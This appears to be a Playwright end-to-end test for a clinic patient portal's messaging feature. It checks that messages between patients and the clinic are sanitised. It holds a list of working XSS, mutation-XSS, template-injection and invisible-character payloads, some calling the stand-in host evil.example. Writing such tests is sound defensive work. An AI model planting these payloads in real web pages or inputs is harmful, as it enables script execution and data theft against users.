import { sql } from '@portal/server/db/sql'
import { clinicIds } from '@portal/server/seed/clinic-ids'
import { answerMessage, sendToPatients } from '@portal/server/areas/messages/index'
import { expectNoSidewaysScroll } from '../support/arrive.ts'
import { signIn } from '../support/sign-in.ts'
import { expect, test } from '../support/test.ts'
import { atConversation, openBox, rows, said } from './messages.ts'

const nested = 3_000

/** What would run, ask somebody, draw over the page or break it, if it came through. */
const hostile: readonly string[] = [
  '<script>window.hurt = 1</script>skrypt',
  '</script><script src="https://evil.example/x.js"></script>',
  '<svg/onload="window.hurt = 1">obraz',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<img src=x onerror="window.hurt = 1">',
  '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/a 1x">',
  '<a href="javascript:window.hurt = 1">kliknij</a>',
  '<a href="jav&#x09;ascript:alert(1)" target="_blank" ping="https://evil.example/">kliknij</a>',
  '<div style="width:expression(alert(1));background:url(https://evil.example/a.png)">tło</div>',
  '<p onpointerrawupdate=alert(1) style="position:fixed;inset:0;z-index:999">nad wszystkim</p>',
  '<style>@import "https://evil.example/x.css";body{display:none}</style>styl',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>parent.hurt = 1</script>"></iframe>ramka',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">dalej',
  '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)><button>Wyślij</button></form>',
  '\u202Eezcazcerp\u2066 odwrócone \u202D wstecz',
  '\u200B\u200D\uFEFF\u2060niewidoczne\u200B\u{E0041}\u{E0042}',
  `${'<b><i><u><ul><li>'.repeat(nested / 5)}w głębi`,
  `${'Z̴̡̛͓̗͙̯̱'.repeat(60)} nad wierszem`,
  'x'.repeat(2_000),
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %>',
]

/** A word of every text, before the attack and after it. */
const mark = 'koniec-listu'

test('nothing that patients and the clinic write to each other runs, asks anybody or breaks the page @phone', async ({
  page,
  portal,
}) => {
  const { patients } = await clinicIds(portal.database.db)
  const { database } = portal
  const anna = await portal.as('anna')
  const [contact] = await anna.call('messageRecipients', { query: { patientId: patients.anna } })
  const writeTo = { patientId: patients.anna, recipients: [contact!.id] }
  const letter = { contact: 'rejestracja', title: 'Rozmowa', content: '<p>Początek</p>' }
  const [first] = await database.transaction((tx) => sendToPatients(tx, [Number(patients.anna)], letter, portal.now()))
  const begin = await anna.call('messageSend', {
    body: { ...writeTo, title: 'Rozmowa', content: '<p>Początek</p>', inResponseTo: String(first!.id) },
  })
  for (const text of hostile) {
    const content = `<p>${mark}</p>${text}<p>${mark}</p>`
    const title = `O ${text}`.slice(0, 140)
    // Characters that nobody sees are refused in a patient's title, and dropped from the clinic's.
    const seen = title.replaceAll(/\p{C}/gu, '')
    await anna.call('messageSend', { body: { ...writeTo, title: seen, content, inResponseTo: begin.id } })
    await database.transaction((tx) =>
      answerMessage(tx, Number(begin.id), { contact: 'rejestracja', title, content }, portal.now()),
    )
  }
  const long = await anna.refusal('messageSend', {
    body: { ...writeTo, title: 'Długa', content: `<p>${'a '.repeat(50_000)}</p>` },
  })
  expect(long.errorCode).toMatch(/^(VALIDATION_ERROR|MESSAGE_TOO_LONG)$/)
  // What came in past all checks, as from another system, is drawn as harmlessly.
  await sql`
    insert into message (patient_id, thread_id, in_response_to, direction, contact_id, title, content, sent_at)
    select ${patients.anna}, ${first!.id}, ${first!.id}, 'IN', (select min(id) from message_contact), left(t.text, 150), ${`<p>${mark}</p>`} || t.text,
      ${portal.now()}::timestamptz + interval '1 minute'
    from json_array_elements_text(${JSON.stringify([...hostile, 'słowo '.repeat(17_000)])}::json) as t(text)`.execute(
    database.db,
  )

  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const strangers: string[] = []
  page.on('request', (request) => {
    if (!/^(?:data|blob):/.test(request.url()) && !request.url().startsWith(portal.url)) strangers.push(request.url())
  })
  await page.setViewportSize({ width: 360, height: 780 })
  await signIn(page, 'anna')
  await openBox(page)
  await expect(rows(page).first()).toBeVisible()
  await expectNoSidewaysScroll(page)
  await page.goto(`/messages/${first!.id}`)
  await atConversation(page, 'Rozmowa')
  await expect(said(page)).toHaveCount(2 + 3 * hostile.length + 1)
  await expectNoSidewaysScroll(page)
  for (const link of await said(page).getByRole('link').all()) await expect(link).toHaveAttribute('href', /^https?:/)
  const drawn = await said(page).evaluateAll((articles) =>
    articles.flatMap((article) =>
      [
        ...article.querySelectorAll('script, style, iframe, object, embed, form, input, img, math, link, meta, base'),
      ].map((element) => element.outerHTML.slice(0, 100)),
    ),
  )
  expect(drawn).toEqual([])
  const onEvent = await page.evaluate(() =>
    [...document.querySelectorAll('main *')].flatMap((element) =>
      [...element.attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
    ),
  )
  expect([onEvent, await page.evaluate(() => 'hurt' in window), dialogs, strangers]).toEqual([[], false, [], []])
  await expect(said(page).last()).toContainText(mark)

  // The notice says nothing of it.
  await portal.app.worker.drain()
  const mails = portal.world.mail.filter(({ to }) => String(to).includes('@'))
  expect(mails.length).toBeGreaterThan(0)
  for (const mail of mails)
    expect(JSON.stringify(mail)).not.toMatch(/evil\.example|hurt|onerror|expression\(|koniec-listu|Rozmowa|\u202E/)
})
